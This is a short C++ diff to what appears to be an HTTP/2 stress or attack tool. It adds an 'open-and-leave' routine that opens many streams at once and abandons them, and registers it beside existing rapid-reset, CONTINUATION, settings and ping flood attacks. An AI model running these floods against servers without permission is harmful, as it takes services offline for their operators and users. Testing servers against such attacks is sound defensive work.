@@ -55,6 +55,14 @@ bool open_streams(RawHttp2& connection, const std::string& path, Deadline end) {
   return flood(connection, end, [&](uint32_t nth) { return begun(path, nth); });
 }
 
+// Goes, and leaves behind what it has begun.
+bool open_and_leave(RawHttp2& connection, const std::string& path, Deadline) {
+  std::string bytes;
+  for (uint32_t nth = 0; nth < 10 * kAtOnce; ++nth) bytes += begun(path, nth);
+  (void)connection.send(bytes);
+  return false;
+}
+
 bool continue_headers(RawHttp2& connection, const std::string& path, Deadline end) {
   if (!connection.send(frame(Type::headers, 0, 1, headers(path, true)))) return false;
   const std::string more = field("x-flood", std::string(1000, 'x'));
@@ -137,6 +145,7 @@ const std::vector<Http2Attack>& http2_attacks() {
                                                 {"resetdata", reset_requests},
                                                 {"requests", whole_requests},
                                                 {"open", open_streams, false},
+                                                {"open-and-leave", open_and_leave, false},
                                                 {"continuation", continue_headers},
                                                 {"settings", change_settings},
                                                 {"ping", ping},
